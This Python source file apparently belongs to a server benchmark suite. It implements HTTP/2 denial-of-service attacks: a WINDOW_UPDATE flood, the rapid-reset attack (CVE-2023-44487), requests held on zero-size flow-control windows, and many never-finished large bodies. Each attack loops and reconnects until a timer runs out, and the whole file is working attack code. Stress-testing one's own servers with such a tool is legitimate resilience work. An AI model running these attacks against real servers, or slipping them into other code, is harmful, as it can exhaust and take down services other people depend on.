"""Attacks over one HTTP/2 connection with prior knowledge, by frames that are valid, but far too many.

If the server closes the connection, a new one continues until the time is over.
"""

import select
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError
from h2.settings import SettingCodes

from scripts.benchmarks.attacks.aim import HOST, AttackTarget, Outcome, Run, Timer
from scripts.benchmarks.attacks.protocols import HostileRequest

STREAMS: Final = 900
FRAMES: Final = 5000  # per write
RESETS: Final = 500  # per write; each takes two frames
BODY_STREAMS: Final = 64
PIECE: Final = 65536
FRAME: Final = 16384  # bytes; the largest DATA frame that a server must accept
PAUSE_SECONDS: Final = 0.01
POLL_SECONDS: Final = 0.1

Script = Callable[[AttackTarget, H2Connection], Iterator[bytes]]  # yields the data of each write


def open_streams(target: AttackTarget, connection: H2Connection, count: int) -> list[int]:
    """Open streams for requests with a body; return their numbers."""
    streams = [2 * index + 1 for index in range(count)]
    for stream in streams:
        connection.send_headers(stream, _headers(target))
    return streams


def window_updates(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
    """Increase the connection's window by one byte repeatedly, while many streams are open (RFC 9113, 6.9)."""
    open_streams(target, connection, STREAMS)
    yield connection.data_to_send()
    connection.increment_flow_control_window(1)
    many = connection.data_to_send() * FRAMES  # repeated, because h2 creates a frame more slowly than a server reads it
    while True:
        yield many


def rapid_resets(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
    """Open a stream and reset it immediately, repeatedly (CVE-2023-44487)."""
    stream = 1
    while True:
        for _ in range(RESETS):
            connection.send_headers(stream, _headers(target), end_stream=True)
            connection.reset_stream(stream)
            stream += 2
        yield connection.data_to_send()


def unread(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
    """Send requests on many streams whose flow-control windows stay closed, so that no answer can be sent."""
    connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for index in range(STREAMS):
        connection.send_headers(2 * index + 1, _headers(target, method="GET", path="/openapi.json"), end_stream=True)
    while True:
        yield connection.data_to_send()
        time.sleep(PAUSE_SECONDS)


def bodies(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
    """Send many bodies of the largest size in parallel, each without its last byte."""
    left = dict.fromkeys(open_streams(target, connection, BODY_STREAMS), target.limit - 1)
    while True:
        for stream in left:
            with suppress(ProtocolError):  # the server has reset it
                size = min(FRAME, left[stream], connection.local_flow_control_window(stream))
                if size > 0:
                    connection.send_data(stream, b" " * size)
                    left[stream] -= size
        yield connection.data_to_send()


def whole_body(hostile: HostileRequest) -> Script:
    """Return a script that sends one request as fast as the windows allow, and waits for its answer."""

    def script(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
        left = memoryview(hostile.body(target.limit))
        connection.send_headers(1, _headers(target, path=target.at(hostile.path), kind=hostile.content_type))
        while connection.open_outbound_streams:
            while left and (size := min(FRAME, len(left), connection.local_flow_control_window(1))) > 0:
                connection.send_data(1, left[:size], end_stream=size == len(left))
                left = left[size:]
            yield connection.data_to_send()
            time.sleep(PAUSE_SECONDS if not left else 0)

    return script


def over_http2(script: Script) -> Callable[[AttackTarget], Run]:
    """Return an attack that repeats a script until its time is over."""

    def prepare(target: AttackTarget) -> Run:
        def run() -> Outcome:
            timer = Timer(target.seconds)
            outcome: Outcome = Counter()
            while timer.is_running():
                outcome[run_once(target, script, timer)] += 1
                time.sleep(PAUSE_SECONDS)
            return outcome

        return run

    return prepare


def run_once(target: AttackTarget, script: Script, timer: Timer) -> str:
    """Run a script over one connection; return how it ended: open, closed or done."""
    connection = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
    connection.initiate_connection()
    try:
        with target.connect() as link:
            link.settimeout(0)
            for data in script(target, connection):
                deliver(link, connection, data, timer)
                if not timer.is_running():
                    return "open"
    except (ProtocolError, OSError):  # after GOAWAY, h2 raises an error on sending
        return "closed"
    return "done"


def deliver(link: socket.socket, connection: H2Connection, data: bytes, timer: Timer) -> None:
    """Send all data, and read what the server sends meanwhile. Raises OSError if it closes the connection."""
    left = memoryview(data)
    while timer.is_running():
        readable, writable, _ = select.select([link], [link] if left else [], [], 0 if not left else POLL_SECONDS)
        if readable:
            received = link.recv(PIECE)
            if not received:
                raise ConnectionResetError
            connection.receive_data(received)
        elif not left:
            return
        if writable:
            left = left[link.send(left) :]


def _headers(
    target: AttackTarget, *, method: str = "POST", path: str | None = None, kind: str = "application/json"
) -> list[tuple[str, str]]:
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", f"{HOST}:{target.port}"),
        (":path", path or target.path),
        ("content-type", kind),
        ("te", "trailers"),
    ]
